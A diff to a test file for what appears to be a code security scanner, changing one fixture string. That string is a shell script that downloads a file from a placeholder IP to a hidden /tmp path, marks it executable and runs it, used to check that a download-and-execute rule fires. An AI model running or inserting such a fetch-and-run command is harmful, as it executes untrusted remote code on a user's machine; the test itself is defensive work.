@@ -316,7 +316,7 @@ def test_install_scripts_of_a_package_built_from_the_crate_are_build_code() -> N
 
 def test_a_script_in_a_string_ends_its_commands_at_line_breaks(tmp_path: Path) -> None:
     # a download then run over three lines of a script: each line is one command
-    script = "#!/bin/sh\\ncurl -fsS https://203.0.113.5/x -o /tmp/.x\\nchmod +x /tmp/.x\\n/tmp/.x\\n"
+    script = "#!/bin/sh\\ncurl -fsS https://203.0.113.5/x -o /tmp/.x\\nchmod +x /tmp/.x\\n/tmp/.x"
     found = _scan_dir(tmp_path, {"src/lib.rs": f'pub const SETUP: &str = "{script}";\n'})
     hits = [e for e in found.findings if e.rule == "threat-download-execute-command"]
     assert len(hits) == 1 and "curl -fsS" in hits[0].snippet
